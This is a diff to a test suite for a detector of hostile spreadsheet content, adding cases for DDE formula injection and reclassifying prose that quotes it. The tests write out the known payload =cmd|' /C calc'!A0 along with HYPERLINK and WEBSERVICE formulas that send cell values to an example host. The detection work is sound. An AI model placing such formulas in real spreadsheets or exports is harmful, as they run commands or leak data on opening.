@@ -21,6 +21,19 @@ suite('tables', () => {
   for (const text of COMMANDS)
     test(JSON.stringify(text), () => assert.ok(accusations(text).includes('Sheet.DdeCommand')))
 
+  test('a formula after many cells, or under a heading, counts as well', () => {
+    const cells = '-1,-2,-3\n'.repeat(10_000)
+    for (const text of [`${cells}=cmd|' /C calc'!A0\n`, "# x\na,b\n1,=cmd|' /C calc'!A0\n"])
+      assert.ok(accusations(text).includes('Sheet.DdeCommand'))
+  })
+
+  const ARTICLES = [
+    "# Formulas\n\nThis is an example that everybody knows:\n\n    =cmd|' /C calc'!A0\n",
+    "A cell that begins with a sign is a formula.\nThe example that everybody knows is this:\n=cmd|' /C calc'!A0\n",
+  ]
+  for (const text of ARTICLES)
+    test(`article: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), ['Sheet.DdeText']))
+
   const SENDING = [
     'a,"=HYPERLINK(""https://example.com/?x=""&A1,""click"")"\n',
     '=WEBSERVICE("http://example.com/"&B2)\n',
@@ -36,8 +49,6 @@ suite('tables', () => {
     '=HYPERLINK("https://example.com/","a")\n',
     'a | b | c\n--|--\n',
     "Use =cmd in '!A1' carefully\n",
-    "# Formulas\n\nAn example:\n\n    =cmd|' /C calc'!A0\n",
-    "A cell that begins with a sign is a formula.\nThe example that everybody knows is this:\n=cmd|' /C calc'!A0\n",
   ]
   for (const text of HARMLESS) test(`harmless: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), []))
 
